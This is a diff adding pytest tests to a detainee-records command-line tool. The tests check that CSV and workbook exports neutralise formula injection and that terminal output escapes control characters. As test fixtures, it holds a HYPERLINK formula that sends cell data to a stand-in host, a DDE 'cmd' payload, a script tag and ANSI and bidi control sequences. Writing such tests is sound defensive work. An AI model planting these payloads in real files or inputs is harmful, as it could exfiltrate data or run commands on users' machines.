@@ -283,3 +283,177 @@ def test_a_sentence_cell_of_the_csv_field_limit_is_refused_on_its_length(cli, tm
     assert result.exit_code == 1
     assert "sentence '1111" in result.stderr and "longer than 40 characters" in result.stderr
     assert result.stderr.count("longer than 40 characters") == 2
+
+
+# -- 3. formula cells neutralised in every CSV and workbook, --raw-cells to opt out --------
+
+import csv    # noqa: E402
+import io     # noqa: E402
+
+FORMULAS = {"name": "=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")",
+            "crime": "+cmd|' /C calc'!A0", "sponsor": "@SUM(A1:A9)"}
+
+
+@pytest.fixture
+def formulas(cli):
+    add_person(cli, name=FORMULAS["name"], crime=FORMULAS["crime"], detained="2025-11-01",
+               sentence="1y3m")
+    cli.ok("assign", "B.I-1/2025", "OLAH-MADU", "--on", "2025-12-01", "--sponsor",
+           FORMULAS["sponsor"])
+    cli.ok("--actor", "=cmd()", "participant", "edit", "B.I-1/2025", "--crime-category",
+           "pencurian")
+    return cli
+
+
+def cells_of(text: str) -> list[str]:
+    text = text.lstrip("\ufeff")
+    delimiter = ";" if ";" in text.splitlines()[0] else ","
+    return [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]
+
+
+def formula_like(cells: list[str]) -> list[str]:
+    return [c for c in cells if c[:1] in ("=", "+", "@") or c.startswith(("-", "\t", "\r"))
+            and not c.lstrip("-").replace(".", "").isdigit()]
+
+
+# a command of each family that shows what the fixture recorded, as CSV
+FAMILIES = {
+    "listing": ["participant", "list"],
+    "record": ["participant", "show", "B.I-1/2025"],
+    "roster": ["track", "show", "OLAH-MADU"],
+    "report": ["report", "readiness", "--within", "3650", "--as-of", "2026-11-28"],
+    "history": ["log"],
+    "checkpoint": ["--actor", "=cmd()", "checkpoint"],
+    "export": ["export", "all"],
+}
+
+
+@pytest.mark.parametrize("family", sorted(FAMILIES))
+@pytest.mark.parametrize("dialect", [[], ["--excel"]])
+def test_no_csv_holds_a_formula(formulas, family, dialect):
+    if family == "checkpoint" and dialect:
+        return                                  # no --excel: a head holds no NIK
+    args = [*FAMILIES[family], *dialect]
+    if family != "export":
+        args += ["-f", "csv"]
+    cells = cells_of(formulas.ok(*args).stdout)
+    assert formula_like(cells) == [], family
+    assert any(c.startswith("'=") or c.startswith("'+") or c.startswith("'@")
+               for c in cells), family
+
+
+@pytest.mark.parametrize("family", ["listing", "record", "report", "export"])
+def test_no_workbook_holds_a_formula(formulas, tmp_path, family):
+    import openpyxl
+
+    target = tmp_path / f"{family}.xlsx"
+    formulas.ok(*FAMILIES[family], "-o", str(target))
+    book = openpyxl.load_workbook(target)
+    texts = [c.value for ws in book for row in ws.iter_rows() for c in row
+             if isinstance(c.value, str)]
+    assert formula_like(texts) == []
+    assert any(t.startswith("'=") for t in texts)
+
+
+def test_the_errors_file_holds_no_formula(cli, tmp_path):
+    path = tmp_path / "p.csv"
+    path.write_text("reg_no,name,detained_on,sentence\n"
+                    f"B.I-1/2025,\"{FORMULAS['name'].replace(chr(34), chr(34) * 2)}\","
+                    "2025-01-10,99 tahun\n")
+    errors = tmp_path / "ditolak.csv"
+    assert cli("import", "participants", str(path), "--errors", str(errors)).exit_code == 1
+    cells = cells_of(errors.read_text())
+    assert formula_like(cells) == [] and any(c.startswith("'=HYPERLINK") for c in cells)
+
+
+@pytest.mark.parametrize("family", ["listing", "record", "report", "export"])
+def test_raw_cells_gives_programs_the_values_as_recorded(formulas, tmp_path, family):
+    args = [*FAMILIES[family], "--raw-cells"]
+    if family != "export":
+        args += ["-f", "csv"]
+    cells = cells_of(formulas.ok(*args).stdout)
+    assert FORMULAS["name"] in cells
+    target = tmp_path / "raw.xlsx"
+    formulas.ok(*FAMILIES[family], "--raw-cells", "-o", str(target))
+    import openpyxl
+    texts = [c.value for ws in openpyxl.load_workbook(target) for row in ws.iter_rows()
+             for c in row]
+    assert FORMULAS["name"] in texts
+
+
+def test_negative_numbers_stay_numbers(cli):
+    add_person(cli, detained="2020-01-10", sentence="2y")          # 1,784 days past expiry
+    rows = list(csv.DictReader(io.StringIO(cli.ok(
+        "report", "readiness", "-f", "csv", "--as-of", "2026-11-28").stdout)))
+    assert rows[0]["days_left"].startswith("-") and rows[0]["days_left"][1:].isdigit()
+
+
+# -- 5. nothing from the data or the command line reaches the terminal raw ------------------
+
+ESC = "\x1b[2J\x1b[31m"
+RLO = "\u202e"
+
+
+def raw_controls(text: str) -> list[str]:
+    return sorted({ch for ch in text if ch in "\x1b\x07\x9b" or "\u202a" <= ch <= "\u202e"
+                   or "\u2066" <= ch <= "\u2069"})
+
+
+@pytest.fixture
+def hostile_ledger(cli, session):
+    """Texts an older wbpctl let in: controls in a name, an offence and an actor."""
+    from dataclasses import replace
+
+    from wbpctl.services import participants
+    add_person(cli, crime="pencurian")
+    person = cli.json("participant", "show", "B.I-1/2025")
+    sneaky = replace(session, actor=ESC + "admin" + RLO)
+    with sneaky.transaction() as tx:
+        tx.record("person.corrected", person["uid"], {"uid": person["uid"], "changes": {
+            "name": "Budi" + ESC + RLO + "<script>alert(1)</script>"}})
+        tx.record("stay.corrected", person["uid"], {"uid": person["stays"][0]["uid"],
+                                                     "changes": {"crime": "curi" + ESC}})
+    sneaky.close()
+    assert participants                                     # the service layer let it in
+    return cli
+
+
+@pytest.mark.parametrize("args", [
+    ["log"], ["log", "-f", "markdown"], ["log", "-f", "json"], ["participant", "list"],
+    ["participant", "list", "-f", "markdown"], ["participant", "list", "-f", "json"],
+    ["participant", "show", "B.I-1/2025"], ["participant", "show", "B.I-1/2025", "-f", "json"],
+    ["participant", "show", "B.I-1/2025", "-f", "markdown"], ["track", "list"],
+    ["report", "readiness", "--within", "3650"],
+])
+def test_no_listing_sends_controls_to_the_terminal(hostile_ledger, args):
+    result = hostile_ledger.ok(*args)
+    assert raw_controls(result.stdout) == [] and raw_controls(result.stderr) == []
+
+
+def test_json_stays_exact(hostile_ledger):
+    import json
+    shown = json.loads(hostile_ledger.ok("participant", "show", "B.I-1/2025", "-f",
+                                         "json").stdout)
+    assert shown["name"] == "Budi" + ESC + RLO + "<script>alert(1)</script>"
+
+
+def test_markdown_escapes_html(hostile_ledger):
+    out = hostile_ledger.ok("participant", "list", "-f", "markdown").stdout
+    assert "<script>" not in out and "&lt;script&gt;" in out
+    assert "\\\\x1b[2J" in out
+
+
+def test_a_rejected_value_is_cut_and_escaped_in_the_error_line(cli, tmp_path):
+    result = cli("participant", "add", "--name", "A" * 100_000 + ESC, "--reg-no",
+                 "B.I-1/2025", "--detained", "2025-01-10", "--sentence", "3y")
+    assert result.exit_code == 1 and len(result.stderr) < 300
+    result = cli("participant", "add", "--name", "Budi", "--reg-no", "B.I-1/2025",
+                 "--detained", "2025-01-10", "--sentence", "3y", "--crime", "x" + ESC)
+    assert result.exit_code == 1 and raw_controls(result.stderr) == []
+    path = tmp_path / "p.csv"
+    path.write_text("reg_no,name,detained_on,sentence\n"
+                    f"B.I-1/2025,A,2025-01-10,{'9' * 100_000}\n"
+                    f"B.I-2/2025,A,{RLO}2025-01-10{ESC},3y\n")
+    result = cli("import", "participants", str(path))
+    assert result.exit_code == 1 and raw_controls(result.stderr) == []
+    assert max(len(line) for line in result.stderr.splitlines()) < 300
